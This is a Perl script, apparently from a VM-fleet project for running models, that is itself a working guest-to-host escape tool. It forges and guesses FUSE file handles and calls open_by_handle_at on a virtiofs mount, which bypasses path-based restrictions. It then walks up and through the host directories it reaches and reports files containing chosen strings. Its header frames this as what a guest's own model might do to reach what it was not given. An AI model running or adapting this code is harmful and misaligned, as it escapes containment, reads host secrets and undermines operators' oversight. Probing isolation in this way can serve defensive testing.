# Copyright: (c) 2026, modelfleet.kvm contributors
# GNU General Public License v3.0+ (see LICENSE or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later

# What root in a guest does to get at what it was not given, with a program that its own model brought: opens whatever
# has a file handle on a virtiofs mount (open_by_handle_at(2) walks no path, so that nothing on a path can stop it), goes
# up from there, and looks for texts in all that it gets. Prints "found TEXT in PATH" for each file with one of them, and
# at the end how many handles could be opened.
#
# Arguments: a directory of the mount, how many inode numbers of FUSE to guess, and the texts. No modules: none are here.

my ($root, $guesses, @texts) = @ARGV;
my ($NAME_TO_HANDLE_AT, $OPEN_BY_HANDLE_AT, $CLOSE, $AT_FDCWD, $EMPTY_PATH) = (303, 304, 3, -100, 0x1000);
my (%seen, $opened);

sub hunt {
    # Everything once, by whichever way it is reached first.
    my ($path, $depth) = @_;
    my ($device, $inode) = ($path =~ m{/fd/\d+$} ? stat $path : lstat $path)[0, 1];
    return if !$depth || !defined $inode || $seen{"$device:$inode"}++;
    if (-d _) {
        opendir(my $directory, $path) or return;
        my @names = grep { $_ ne "." && $_ ne ".." } readdir $directory;
        closedir $directory;
        hunt("$path/$_", $depth - 1) for @names;
    } elsif (-f _ && open(my $file, "<", $path)) {
        read($file, my $beginning, 65536);
        close $file;
        for my $text (@texts) {
            print "found $text in $path\n" if index($beginning, $text) >= 0;
        }
    }
}

sub climb {
    # Each directory above, by its own name for what is above it. The root of the guest is its own.
    my ($path) = @_;
    my $end = join ":", (stat "/")[0, 1];
    for my $up (0 .. 8) {
        my $now = join ":", (stat $path)[0, 1];
        last if !$now || $now eq $end;
        hunt($path, 12);
        $path .= "/..";
    }
}

sub handle {
    my ($type, @words) = @_;
    return pack("Ll", 4 * @words, $type) . pack("L*", @words);
}

sub try_handle {
    my ($mount, $handle) = @_;
    my $fd = syscall($OPEN_BY_HANDLE_AT, fileno($mount), $handle, 0);
    return if $fd < 0;
    $opened++;
    -d "/proc/self/fd/$fd" ? climb("/proc/self/fd/$fd") : hunt("/proc/self/fd/$fd", 12);
    syscall($CLOSE, $fd);
}

sysopen(my $mount, $root, 0) or die "$root: $!\n";
climb($root);
# Its own, as the kernel gives it, then guesses: a FUSE handle is the number of an inode, in two words, its generation,
# and the same of its parent.
my ($own, $mount_id) = (pack("Ll", 128, 0) . "\0" x 128, pack("l", 0));
syscall($NAME_TO_HANDLE_AT, $AT_FDCWD, $root, $own, $mount_id, 0) == 0 or die "name_to_handle_at: $!\n";
my ($length, $type) = unpack("Ll", $own);
try_handle($mount, substr($own, 0, 8 + $length));
my $of_itself = $opened || 0;
for my $number (1 .. $guesses) {
    for my $generation (0, 1) {
        try_handle($mount, handle(0x81, 0, $number, $generation));
    }
    try_handle($mount, handle(0x82, 0, $number, 0, 0, 1, 0));
}
printf "opened %d, of these %d itself, type %x\n", $opened, $of_itself, $type;
